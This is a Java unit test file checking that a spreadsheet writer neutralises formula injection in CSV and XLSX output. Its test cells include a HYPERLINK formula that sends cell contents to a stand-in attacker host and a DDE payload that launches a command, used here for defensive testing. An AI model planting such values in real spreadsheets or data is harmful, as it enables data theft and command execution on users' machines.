package org.huiyin.registerbook;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.huiyin.sheet.FormulaMark;
import org.huiyin.sheet.SheetWriter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A petitioner may write what a spreadsheet takes for a formula. Nothing that the register writes
 * out is one, and what is read in again is what was written.
 */
class FormulaMarkTest {

  private static final List<String> CELLS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1)",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1+1)",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "＝1+1",
          "＠x",
          "'=1",
          "''=1",
          "'引号开头",
          "平常的话",
          "2026-01-02",
          "");

  @TempDir Path directory;

  @Test
  void noCellOfATextFileBeginsLikeAFormula() throws IOException {
    String text = new String(csv(), StandardCharsets.UTF_8);

    for (String cell : text.substring(1).split("(?<=^|\\n)(?=\")|,", -1)) {
      assertThat(cell.replaceFirst("^\"", "")).doesNotContainPattern("^[=+\\-@\\t＝＋－＠]");
    }
    assertThat(text).contains("'=HYPERLINK", "'+1+cmd", "'-2+3", "'@SUM", "'＝1+1");
  }

  @Test
  void readInAgainItSaysTheSame() throws IOException {
    Path file = Files.write(directory.resolve("out.csv"), csv());
    List<String> read = new ArrayList<>();

    new CsvSheet(file, StandardCharsets.UTF_8).read(row -> read.addAll(row.cells()));

    assertThat(read).containsExactlyElementsOf(CELLS);
  }

  @ParameterizedTest
  @ValueSource(strings = {"'=1", "''=1", "=1", "'平常", "O'Neill"})
  void theMarkComesOffOnceAndOffNothingElse(String cell) {
    assertThat(FormulaMark.takenOff(FormulaMark.put(cell))).isEqualTo(cell);
  }

  @Test
  void inAWorkbookEveryCellIsTextAndNoneAFormula() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (SheetWriter writer = SheetWriter.xlsx(out, "登记簿")) {
      writer.row(CELLS);
    }

    Path book = Files.write(directory.resolve("out.xlsx"), out.toByteArray());
    StringBuilder parts = new StringBuilder();
    try (ZipFile zip = new ZipFile(book.toFile())) {
      for (ZipEntry part : Collections.list(zip.entries())) {
        parts.append(new String(zip.getInputStream(part).readAllBytes(), StandardCharsets.UTF_8));
      }
    }
    assertThat(parts)
        .contains("HYPERLINK", "t=\"inlineStr\"")
        .doesNotContain("<f>", "<f ", "TargetMode=\"External\"", "<hyperlink");
  }

  private static byte[] csv() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (SheetWriter writer = SheetWriter.csv(out, StandardCharsets.UTF_8)) {
      writer.row(CELLS);
    }
    return out.toByteArray();
  }
}
